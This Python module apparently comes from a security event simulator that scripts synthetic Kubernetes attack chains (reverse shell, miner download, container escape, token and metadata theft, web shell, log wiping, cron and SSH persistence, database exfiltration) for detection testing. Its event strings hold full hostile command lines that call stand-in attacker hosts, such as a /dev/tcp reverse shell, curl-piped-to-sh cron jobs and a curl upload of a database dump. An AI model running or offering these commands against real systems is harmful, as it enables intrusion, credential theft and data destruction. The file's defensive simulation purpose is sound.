"""Attacks that single events reveal: each is a short chain of events with its process tree, in a pod or on a node."""

# ruff: noqa: S104, S108 - addresses and paths are written into events, not used

from collections.abc import Callable

from tocsin.simulator import hooks
from tocsin.simulator.script import Script

ATTACKER = "203.0.113.66"
DROP_SITE = "198.51.100.23"
POOL = "192.0.2.140"
METADATA = "169.254.169.254"
_TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"  # noqa: S105 - a path
_API = "10.96.0.1"
_CLONE_NEWNS, _CLONE_NEWPID, _CLONE_NEWUSER = 0x0002_0000, 0x2000_0000, 0x1000_0000
_PTRACE_ATTACH = 16

Attack = Callable[[Script], None]
"""Appends the events of an attack to a script."""


def reverse_shell(s: Script) -> None:
    """A web process starts a shell that connects to the attacker and takes its commands."""
    shell = s.exec(s.home.worker, "/bin/bash", f'-c "bash -i >& /dev/tcp/{ATTACKER}/4444 0>&1"')
    inner = s.exec(shell, "/bin/bash", "-i")
    port = s.rng.randrange(32_768, 60_999)
    s.hook(inner, hooks.connect(s.address, port, ATTACKER, 4_444, port))
    for binary, arguments in (("/usr/bin/id", ""), ("/usr/bin/uname", "-a"), ("/bin/cat", "/etc/passwd")):
        s.run(inner, binary, arguments)
    s.hook(inner, hooks.close(s.address, port, ATTACKER, 4_444, port))
    s.exit(inner, status=130)
    s.exit(shell, status=130)


def crypto_miner(s: Script) -> None:
    """A miner is downloaded to a temporary directory, started, and connects to its pool."""
    command = f"curl -fsSL http://{DROP_SITE}/x.tar.gz | tar xz -C /tmp"
    shell = s.exec(s.home.worker, "/bin/sh", f'-c "{command}; chmod +x /tmp/xmrig; /tmp/xmrig"')
    fetch = s.exec(shell, "/usr/bin/curl", f"-fsSL http://{DROP_SITE}/x.tar.gz")
    s.hook(fetch, hooks.connect(s.address, 41_200, DROP_SITE, 80, 41_200))
    s.run(shell, "/bin/tar", "xz -C /tmp")
    s.exit(fetch)
    change = s.exec(shell, "/bin/chmod", "+x /tmp/xmrig")
    s.hook(change, hooks.chmod("/tmp/xmrig", 0o755))
    s.exit(change)
    arguments = f"--donate-level 1 -o stratum+tcp://{POOL}:3333 -u 44AFFq5kSiGBoZ -p x --randomx-mode=fast -k"
    miner = s.exec(shell, "/tmp/xmrig", arguments)
    s.hook(miner, hooks.bprm_check("/tmp/xmrig"))
    for cookie in range(4):
        s.hook(miner, hooks.connect(s.address, 50_100 + cookie, POOL, 3_333, 50_100 + cookie))
    s.exit(miner, signal="SIGKILL")
    s.exit(shell, status=137)


def container_escape(s: Script) -> None:
    """A privileged container mounts the host's disk and enters the namespaces of the host's first process."""
    shell = s.inject("/bin/sh", '-c "mkdir -p /mnt/h; mount /dev/sda1 /mnt/h; nsenter -t 1 -m -p -- bash"', uid=0)
    s.run(shell, "/bin/mkdir", "-p /mnt/h")
    mount = s.exec(shell, "/bin/mount", "/dev/sda1 /mnt/h")
    s.hook(mount, hooks.mount("/dev/sda1", "/mnt/h", "ext4"))
    s.exit(mount)
    enter = s.exec(shell, "/usr/bin/nsenter", "-t 1 -m -p -- bash")
    s.hook(enter, hooks.setns(_CLONE_NEWNS))
    s.hook(enter, hooks.setns(_CLONE_NEWPID))
    host = s.replace(enter, "/usr/bin/bash", "")
    s.hook(host, hooks.file_permission("/etc/shadow", hooks.READ, "-rw-r-----"))
    s.run(host, "/usr/bin/crictl", "ps -a")
    s.hook(host, hooks.file_permission("/etc/kubernetes/pki/apiserver-kubelet-client.key", hooks.READ, "-rw-------"))
    s.exit(host)
    s.exit(shell)


def token_theft(s: Script) -> None:
    """The service account's token is read by a shell tool and used against the API server."""
    shell = s.exec(s.home.worker, "/bin/sh", f'-c "cat {_TOKEN}"')
    cat = s.replace(shell, "/bin/cat", _TOKEN)
    s.hook(cat, hooks.file_permission(_TOKEN, hooks.READ))
    s.exit(cat)
    arguments = f'-sk -H "Authorization: Bearer eyJhbGciOiJSUzI1NiJ9.e30.c2ln" https://{_API}/api/v1/secrets'
    curl = s.exec(s.home.worker, "/usr/bin/curl", arguments)
    s.hook(curl, hooks.connect(s.address, 44_810, _API, 443, 44_810))
    s.exit(curl)


def web_shell(s: Script) -> None:
    """A file is dropped in the document root, and commands come through it."""
    path = "/var/www/html/uploads/avatar.php"
    s.hook(s.home.worker, hooks.file_permission(path, hooks.WRITE))
    for command in ("whoami", "id", "cat /var/www/html/config.php", "ls -la /home"):
        binary, _, rest = command.partition(" ")
        shell = s.exec(s.home.worker, "/bin/sh", f'-c "{command}"', cwd="/var/www/html/uploads")
        s.run(shell, f"/usr/bin/{binary}", rest)
        s.exit(shell)


def setuid_escalation(s: Script) -> None:
    """A setuid binary left in a temporary directory gives root to an unprivileged user."""
    shell = s.exec(s.home.worker, "/bin/sh", '-c "/tmp/.cache/suid-bash -p"')
    raised = {"setuid": 0, "privileges_changed": ["PRIVILEGES_RAISED_EXEC_FILE_SETUID"]}
    root = s.exec(shell, "/tmp/.cache/suid-bash", "-p", uid=0, binary_properties=raised)
    s.hook(root, hooks.commit_creds(0, capable=True))
    s.hook(root, hooks.setuid(0))
    s.hook(root, hooks.capset(0))
    s.hook(root, hooks.file_permission("/etc/shadow", hooks.READ, "-rw-r-----"))
    s.run(root, "/usr/bin/passwd", "-d root")
    s.exit(root)
    s.exit(shell)


def exec_recon(s: Script) -> None:
    """Somebody enters the pod with ``kubectl exec`` and explores it."""
    shell = s.inject("/bin/bash", "")
    s.hook(shell, hooks.shell_readline())
    commands = (
        ("/usr/bin/id", ""), ("/usr/bin/whoami", ""), ("/usr/bin/uname", "-a"), ("/usr/bin/env", ""),
        ("/bin/mount", ""), ("/bin/ps", "aux"), ("/sbin/ip", "addr"), ("/usr/bin/find", "/ -name id_rsa"),
        ("/usr/bin/nmap", "-sT -p 22,443,2379,6443,10250 10.0.0.0/24"),
    )  # fmt: skip
    for binary, arguments in commands:
        s.run(shell, binary, arguments)
    s.exit(shell)


def log_wiping(s: Script) -> None:
    """Logs and shell history are deleted."""
    shell = s.inject("/bin/bash", '-c "rm -rf /var/log/*; history -c; ln -sf /dev/null ~/.bash_history"', uid=0)
    remove = s.exec(shell, "/bin/rm", "-rf /var/log/nginx /var/log/auth.log /var/log/wtmp")
    s.exit(remove)
    shred = s.exec(shell, "/usr/bin/shred", "-zu /root/.bash_history")
    s.hook(shred, hooks.file_permission("/root/.bash_history", hooks.WRITE, "-rw-------"))
    s.exit(shred)
    s.run(shell, "/bin/ln", "-sf /dev/null /root/.bash_history")
    s.exit(shell)


def persistence(s: Script) -> None:
    """An SSH key and a cron job are installed on the node."""
    shell = s.exec(s.home.daemons["sshd"], "/bin/bash", f'-c "curl -s http://{DROP_SITE}/k >> ~/.ssh/authorized_keys"')
    fetch = s.exec(shell, "/usr/bin/curl", f"-s http://{DROP_SITE}/k")
    s.hook(fetch, hooks.connect(s.address, 39_014, DROP_SITE, 80, 39_014))
    s.exit(fetch)
    s.hook(shell, hooks.file_permission("/root/.ssh/authorized_keys", hooks.WRITE, "-rw-------"))
    job = f"\"echo '* * * * * root curl -s http://{DROP_SITE}/p|sh' > /etc/cron.d/0sync\""
    writer = s.exec(shell, "/bin/sh", f"-c {job}")
    s.hook(writer, hooks.file_permission("/etc/cron.d/0sync", hooks.WRITE))
    s.exit(writer)
    s.exit(shell)


def kernel_module(s: Script) -> None:
    """A module is loaded into the kernel of the node."""
    shell = s.exec(s.home.daemons["sshd"], "/bin/bash", '-c "insmod /tmp/.k/diamorphine.ko"')
    insmod = s.exec(shell, "/usr/sbin/insmod", "/tmp/.k/diamorphine.ko")
    s.hook(insmod, hooks.finit_module("/tmp/.k/diamorphine.ko"))
    s.hook(insmod, hooks.init_module("diamorphine"))
    s.exit(insmod)
    s.exit(shell)


def fileless(s: Script) -> None:
    """A program that exists only in memory is executed and opens a port."""
    loader = s.exec(s.home.worker, "/usr/bin/python3", "-c \"import os,urllib.request as u;fd=os.memfd_create('')\"")
    s.hook(loader, hooks.memfd_create("payload"))
    s.hook(loader, hooks.bprm_check("/proc/self/fd/3"))
    gone = {"file": {"inode": {"number": str(s.rng.randrange(10_000, 99_999)), "links": 0}}}
    ghost = s.replace(loader, "/proc/self/fd/3", "[kworker/u8:2]", binary_properties=gone)
    s.hook(ghost, hooks.bind("0.0.0.0", 31_337, 31_337))
    s.hook(ghost, hooks.listen("0.0.0.0", 31_337, 31_337))
    s.hook(ghost, hooks.accept(s.address, 31_337, ATTACKER, 50_912, 31_337))
    s.exit(ghost, signal="SIGTERM")


def metadata_theft(s: Script) -> None:
    """The node's credentials are read from the cloud's metadata service."""
    path = f"http://{METADATA}/latest/meta-data/iam/security-credentials/"
    shell = s.exec(s.home.worker, "/bin/sh", f'-c "curl -s {path}"')
    for port, address in ((52_010, path), (52_011, f"{path}node-role")):
        curl = s.exec(shell, "/usr/bin/curl", f"-s {address}")
        s.hook(curl, hooks.connect(s.address, port, METADATA, 80, port))
        s.exit(curl)
    s.exit(shell)


def exfiltration(s: Script) -> None:
    """The database is dumped, compressed and uploaded."""
    shell = s.inject("/bin/bash", '-c "pg_dump -U postgres ledger | gzip > /tmp/.d.gz"')
    s.run(shell, "/usr/bin/pg_dump", "-U postgres ledger")
    s.run(shell, "/bin/gzip", "")
    s.hook(shell, hooks.file_permission("/tmp/.d.gz", hooks.WRITE, "-rw-------"))
    curl = s.exec(shell, "/usr/bin/curl", f"-sT /tmp/.d.gz https://{DROP_SITE}/u")
    s.hook(curl, hooks.connect(s.address, 47_330, DROP_SITE, 443, 47_330))
    for _ in range(5):
        s.hook(curl, hooks.send(s.address, 47_330, DROP_SITE, 443, 47_330, s.rng.randrange(60_000, 65_536)))
    s.hook(curl, hooks.close(s.address, 47_330, DROP_SITE, 443, 47_330))
    s.exit(curl)
    s.exit(shell)


def process_injection(s: Script) -> None:
    """A tool attaches to a process and writes its memory; then it tries to become root and is killed."""
    tool = s.inject("/opt/evil/inject", "--pid 1 --shellcode /tmp/s")
    s.hook(tool, hooks.unshare(_CLONE_NEWUSER))
    s.hook(tool, hooks.ptrace(_PTRACE_ATTACH, s.home.main.pid))
    s.hook(tool, hooks.kill_setuid_root())
    s.exit(tool, signal="SIGKILL")
